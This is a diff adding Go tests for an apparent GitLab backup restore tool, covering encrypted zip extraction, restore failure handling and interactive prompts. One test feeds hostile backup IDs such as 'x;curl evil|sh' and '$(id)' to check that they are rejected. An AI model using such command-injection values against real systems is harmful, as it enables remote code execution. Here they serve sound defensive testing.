@@ -0,0 +1,131 @@
+package main
+
+import (
+	"bufio"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestExtractPasswordZip_RoundTrip(t *testing.T) {
+	dir := t.TempDir()
+	src := createTempBackup(t, dir, "123_gitlab_backup.tar", time.Now())
+
+	zipPath := writePasswordZip(t, src, "secret")
+	os.Remove(src)
+
+	tarPath, err := extractPasswordZip(zipPath, "secret")
+	if err != nil {
+		t.Fatalf("extract failed: %v", err)
+	}
+	if tarPath != filepath.Join(dir, "123_gitlab_backup.tar") {
+		t.Errorf("unexpected extracted path %s", tarPath)
+	}
+
+	data, err := os.ReadFile(tarPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(data) != "fake-backup-data" {
+		t.Errorf("unexpected content %q", data)
+	}
+}
+
+func TestExtractPasswordZip_WrongPassword(t *testing.T) {
+	dir := t.TempDir()
+	src := createTempBackup(t, dir, "123_gitlab_backup.tar", time.Now())
+
+	zipPath := writePasswordZip(t, src, "secret")
+	os.Remove(src)
+
+	if _, err := extractPasswordZip(zipPath, "wrong"); err == nil {
+		t.Fatal("expected error for wrong password, got nil")
+	}
+	if _, err := os.Stat(src); !os.IsNotExist(err) {
+		t.Error("partial tar should have been removed")
+	}
+}
+
+// writePasswordZip encrypts src with the upload zip stage into src + ".zip"
+func writePasswordZip(t *testing.T, src, password string) string {
+	t.Helper()
+	in, err := os.Open(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer in.Close()
+	out, err := os.Create(src + ".zip")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer out.Close()
+
+	w, err := zipStage(filepath.Base(src), password).Wrap(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := io.Copy(w, in); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return out.Name()
+}
+
+func TestRestoreGitLabBackup_RejectsUnsafeID(t *testing.T) {
+	// IDs come from remote object names; none of these may reach the container
+	for _, id := range []string{"x;curl evil|sh", "$(id)", "a b", "../x", ""} {
+		err := restoreGitLabBackup(t.Context(), Config{ExecBackend: "invalid"}, id)
+		if err == nil || !strings.Contains(err.Error(), "invalid backup ID") {
+			t.Errorf("restoreGitLabBackup(%q) error = %v, want invalid backup ID", id, err)
+		}
+	}
+}
+
+// fakeCommands puts shell script stubs on PATH, by command name
+func fakeCommands(t *testing.T, scripts map[string]string) {
+	t.Helper()
+	dir := t.TempDir()
+	for name, script := range scripts {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\n"+script), 0755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
+}
+
+func TestRestoreGitLabBackup_RestartsAfterFailure(t *testing.T) {
+	calls := filepath.Join(t.TempDir(), "calls")
+	fakeCommands(t, map[string]string{
+		"gitlab-ctl":    `echo "gitlab-ctl $*" >> ` + calls,
+		"gitlab-backup": `echo "gitlab-backup $*" >> ` + calls + "\nexit 1",
+	})
+
+	err := restoreGitLabBackup(t.Context(), Config{ExecBackend: "local"}, "1700000000_gitlab")
+	if err == nil || !strings.Contains(err.Error(), "exited with code 1") {
+		t.Fatalf("restoreGitLabBackup() error = %v, want the restore failure", err)
+	}
+	data, _ := os.ReadFile(calls)
+	want := "gitlab-ctl stop puma\ngitlab-ctl stop sidekiq\ngitlab-backup restore BACKUP=1700000000_gitlab force=yes\ngitlab-ctl restart\n"
+	if string(data) != want {
+		t.Errorf("commands run:\n%s\nwant:\n%s", data, want)
+	}
+}
+
+func TestPrompts_ShareStdin(t *testing.T) {
+	defer func(r *bufio.Reader) { stdin = r }(stdin)
+	stdin = bufio.NewReader(strings.NewReader("2\nyes\n"))
+
+	backups := []rcloneFile{{Path: "2_gitlab_backup.tar"}, {Path: "1_gitlab_backup.tar"}}
+	selected, err := selectBackup(Config{}, backups)
+	if err != nil || selected.Path != "1_gitlab_backup.tar" {
+		t.Fatalf("selectBackup() = %+v, %v", selected, err)
+	}
+	if !confirm("Continue? ") {
+		t.Error("confirmation after the selection was lost")
+	}
+}